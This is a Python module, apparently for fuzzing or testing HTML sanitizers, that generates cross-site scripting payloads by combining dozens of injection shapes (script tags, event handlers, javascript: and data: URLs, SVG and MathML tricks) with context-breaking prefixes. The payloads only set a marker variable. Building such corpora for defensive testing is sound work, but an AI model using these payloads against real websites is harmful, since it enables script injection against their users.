"""Pages that want to run something: a small grammar of contexts and payload shapes. Whatever runs would change `window.ran`."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

RUN = "window.ran=1"

# What a payload is made of: how it gets a script to run.
SHAPES = (
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT >",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f'<script src="data:text/javascript,{RUN}"></script>',
    f"<img src=x onerror={RUN}>",
    f"<img src=x oNeRrOr='{RUN}'//>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f'<svg><a xlink:href="javascript:{RUN}"><text y=20>go</text></a></svg>',
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f'<math href="javascript:{RUN}">go</math>',
    f'<a href="javascript:{RUN}">go</a>',
    f'<a href=" java\tscript:{RUN}">go</a>',
    f'<a href="&#106;avascript&colon;{RUN}">go</a>',
    f'<a href="data:text/html,<script>{RUN}</script>">go</a>',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<iframe src="javascript:parent.{RUN}"></iframe>',
    f'<object data="javascript:{RUN}"></object>',
    f'<embed src="javascript:{RUN}">',
    f'<form action="javascript:{RUN}"><button autofocus>go</button></form>',
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<body onload={RUN}>",
    f'<div style="background:url(javascript:{RUN})">x</div>',
    f"<style>@import 'javascript:{RUN}'</style>",
    '<link rel=stylesheet href="http://elsewhere.example/x.css">',
    '<img src="http://elsewhere.example/pixel.gif">',
    f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">',
    '<base href="http://elsewhere.example/">',
    f"<template><script>{RUN}</script></template>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    f"{{{{ ''.__class__ }}}}<img src=x onerror={RUN}>",
    f"${{{RUN}}}{{%print(7*7)%}}",
    f"\u2028</script\u2029><script>{RUN}</script>",
    f"<x onclick={RUN} tabindex=1 onfocus={RUN} autofocus id=place>x</x>",
)

# How it gets out of where it was put.
ESCAPES = (
    "",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</script>",
    "-->",
    "]]>",
    '" autofocus onfocus=window.ran=1 x="',
    "\\x3c/script\\x3e",
)


def payloads() -> Iterator[str]:
    """All of them."""
    for escape, shape in product(ESCAPES, SHAPES):
        yield escape + shape
